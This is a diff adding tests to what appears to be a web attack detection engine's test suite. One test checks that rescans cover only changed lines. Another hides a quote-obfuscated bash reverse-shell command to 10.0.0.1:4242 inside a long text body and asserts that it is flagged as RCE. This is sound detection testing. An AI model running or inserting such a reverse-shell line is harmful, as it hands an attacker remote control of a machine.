@@ -8,7 +8,9 @@ import re
 import pytest
 
 from node.detectors import MODULES
-from node.rules import searchable
+from node.engine import Engine
+from node.rules import CHANGED_LINES_MIN, changed_lines, searchable
+from node.types import AttackType, Request
 
 # Shapes the rules use: boundaries before words, before groups of words, groups followed
 # by more pattern, nested groups, escaped signs and literals among the alternatives.
@@ -91,3 +93,20 @@ def test_rules_keep_their_patterns_searchable() -> None:
         if rule.pattern is not None and r"(?<!\w.)" in rule.pattern.pattern
     ]
     assert len(rewritten) >= 10
+
+
+def test_a_long_rewritten_text_is_looked_at_again_only_where_it_changed() -> None:
+    before = "\n".join(f"line {n} of the page" for n in range(400))
+    after = before.replace("line 7 ", "l'i'ne 7 ").replace("line 9 ", "line 9  ")
+    assert len(after) >= CHANGED_LINES_MIN
+    assert changed_lines(before, after) == "l'i'ne 7 of the page\nline 9  of the page"
+    # Short texts, and rewritings that moved line breaks, are looked at whole.
+    assert changed_lines("a'b\nc", "ab\nc") == "ab\nc"
+    assert changed_lines(before, after.replace("\n", " ", 1)) == after.replace("\n", " ", 1)
+
+
+def test_a_command_folded_in_a_long_text_is_found() -> None:
+    page = "\n".join(f"{n}. notes about 'quoting' in shells" for n in range(300))
+    value = page + "\nb'a'sh -i >& /d'e'v/t'c'p/10.0.0.1/4242 0>&1\n" + page
+    hits = Engine().scan(Request("POST", "/", (("Content-Type", "text/plain"),), value.encode()))
+    assert AttackType.RCE in {hit.type for hit in hits}
